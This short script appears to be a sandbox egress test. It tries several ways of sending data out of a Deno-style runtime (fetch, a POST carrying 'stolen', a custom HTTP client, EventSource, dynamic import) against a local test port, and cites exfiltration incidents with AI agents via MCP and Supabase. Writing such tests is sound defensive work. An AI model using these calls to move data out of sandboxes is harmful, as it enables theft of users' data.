// Tries: fetch, with a client of its own, and every other global that fetches: EventSource, Request, WebSocketStream.
// Origin: exfiltration by fetch, e.g. the GitHub MCP and Supabase cases.

const url = `http://127.0.0.1:${input.tcp}/?stolen`;
const found = [];
for (const start of [
  () => fetch(url),
  () => fetch(new Request(url, { method: "POST", body: "stolen" })),
  () => fetch(url, { client: Deno.createHttpClient({}) }),
  () => new EventSource(url),
  () => import(url),
]) {
  try {
    found.push(String(await Promise.race([start(), new Promise((resolve) => setTimeout(resolve, 300))])));
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
